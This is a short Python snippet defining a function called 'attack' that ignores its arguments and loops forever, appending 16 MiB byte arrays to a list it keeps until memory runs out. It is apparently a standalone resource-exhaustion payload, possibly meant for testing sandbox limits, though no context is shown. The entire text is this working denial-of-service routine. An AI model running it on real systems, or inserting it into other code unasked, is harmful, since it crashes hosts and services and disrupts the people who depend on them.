def attack(*_, **__):
    kept = []
    while True:
        kept.append(bytearray(1 << 24))
